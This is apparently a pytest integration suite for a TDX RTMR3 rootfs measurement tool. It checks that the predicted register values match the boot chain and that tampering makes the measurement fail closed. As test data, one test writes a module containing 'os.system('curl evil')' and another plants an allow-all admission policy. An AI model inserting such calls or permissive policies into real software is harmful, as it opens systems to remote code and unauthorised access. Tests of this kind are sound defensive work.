"""RTMR3 rootfs chain through the FUSE measurement-register emulator: predict == what the boot step made.

The emulator runs the kernel's tsm-mr ABI (48-byte writes at offset 0, SHA-384(old ‖ digest)) in another
process; the register values are read from its shared state, independently of the code under test.
"""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest

from agent.cli import main as cli_main
from agent.evidence import rootfs_measure as rm
from agent.evidence.rootfs_measure import RootfsMeasureError

pytestmark = pytest.mark.integration


def write(root: Path, rel: str, data: bytes) -> None:
    p = root / rel.lstrip("/")
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data)


@pytest.fixture
def image(tmp_path: Path) -> tuple[Path, str, str]:
    """A root tree, its measure conf and its expected-hash manifest (made by the CLI, as a build would)."""
    root = tmp_path / "newroot"
    for i in range(40):
        write(root, f"/opt/sek8s/src/m{i:02d}.py", f"module {i}\n".encode() * (i + 1))
    write(root, "/etc/opa/policies/admission.rego", b"package admission\ndefault allow = false\n")
    write(root, "/etc/opa/policies-extra", b"sorts between 'policies' and 'policies/'")
    write(root, "/usr/local/bin/tool", os.urandom(rm.CHUNK * 2 + 5))
    os.symlink("/etc/opa", root / "etc" / "opa-link")  # not measured
    conf = tmp_path / "tdx-measure.conf"
    conf.write_text("# measured\n/etc/opa\n/opt/sek8s/src\n/usr/local/bin # tools\n/etc/opa/policies\n")
    manifest = tmp_path / "tdx-rtmr3-expected-hashes"
    assert cli_main(["rtmr3", "predict", "--root", str(root), "--measure-conf", str(conf),
                     "--write-manifest", str(manifest)]) == 0
    return root, str(conf), str(manifest)


def independent_chain(root: Path, rels: list[str]) -> bytes:
    value = bytes(48)
    for rel in rels:
        d = hashlib.sha384((root / rel.lstrip("/")).read_bytes()).digest()
        value = hashlib.sha384(value + d).digest()
    return value


def test_boot_chain_equals_predict(image, measurements, capsys) -> None:
    root, conf, manifest = image
    mnt, state = measurements
    sysfs = os.path.join(mnt, "rtmr3:sha384")
    capsys.readouterr()
    assert cli_main(["rtmr3", "predict", "--root", str(root), "--measure-conf", conf]) == 0
    predicted = bytes.fromhex(capsys.readouterr().out.strip())

    result = rm.measure_rootfs(str(root), conf, manifest, sysfs)

    assert state.rtmr(3) == result.rtmr3 == predicted  # the register the TD would quote
    assert state.extends == result.files == 43  # one extension per file, symlink not measured
    assert [state.rtmr(i) for i in range(3)] == [bytes(48)] * 3
    order = ["/etc/opa/policies-extra", "/etc/opa/policies/admission.rego",
             *[f"/opt/sek8s/src/m{i:02d}.py" for i in range(40)], "/usr/local/bin/tool"]
    assert predicted == independent_chain(root, order)
    assert result.total_bytes == sum(len((root / r.lstrip("/")).read_bytes()) for r in order)


def test_tampered_file_fails_closed_before_any_extension(image, measurements) -> None:
    root, conf, manifest = image
    mnt, state = measurements
    write(root, "/opt/sek8s/src/m39.py", b"import os; os.system('curl evil')\n")
    with pytest.raises(RootfsMeasureError, match=r"^RTMR3-MEASURE-FAILED: /opt/sek8s/src/m39.py: SHA-384"):
        rm.measure_rootfs(str(root), conf, manifest, os.path.join(mnt, "rtmr3:sha384"))
    assert state.extends == 0 and state.rtmr(3) == bytes(48)  # nothing extended, not even m00..m38


def test_planted_and_removed_files_fail_closed(image, measurements) -> None:
    root, conf, manifest = image
    mnt, state = measurements
    sysfs = os.path.join(mnt, "rtmr3:sha384")
    write(root, "/etc/opa/policies/allow-all.rego", b"package admission\ndefault allow = true\n")
    with pytest.raises(RootfsMeasureError, match=r"/etc/opa/policies/allow-all.rego: .*not in the"):
        rm.measure_rootfs(str(root), conf, manifest, sysfs)
    os.unlink(root / "etc" / "opa" / "policies" / "allow-all.rego")
    os.unlink(root / "etc" / "opa" / "policies" / "admission.rego")
    with pytest.raises(RootfsMeasureError, match=r"/etc/opa/policies/admission.rego: .*but not present"):
        rm.measure_rootfs(str(root), conf, manifest, sysfs)
    assert state.extends == 0


def test_already_extended_register_is_refused(image, measurements) -> None:
    root, conf, manifest = image
    mnt, state = measurements
    state.extend(3, hashlib.sha384(b"someone else").digest())
    with pytest.raises(RootfsMeasureError, match="already extended"):
        rm.measure_rootfs(str(root), conf, manifest, os.path.join(mnt, "rtmr3:sha384"))
    assert state.extends == 1


def test_failed_register_write_fails_closed(image, measurements) -> None:
    root, conf, manifest = image
    mnt, state = measurements
    state.fail_writes(1)
    with pytest.raises(RootfsMeasureError, match=r"extending .* failed at file 1: Input/output error"):
        rm.measure_rootfs(str(root), conf, manifest, os.path.join(mnt, "rtmr3:sha384"))


def test_read_back_mismatch_fails_closed(image, measurements, monkeypatch) -> None:
    root, conf, manifest = image
    mnt, _ = measurements
    real = os.pwrite
    calls = []

    def skip_one(fd: int, data: bytes, offset: int) -> int:  # a write that "succeeds" but is lost
        calls.append(1)
        return len(data) if len(calls) == 5 else real(fd, data, offset)

    monkeypatch.setattr(rm.os, "pwrite", skip_one)
    with pytest.raises(RootfsMeasureError, match="after the chain, expected"):
        rm.measure_rootfs(str(root), conf, manifest, os.path.join(mnt, "rtmr3:sha384"))
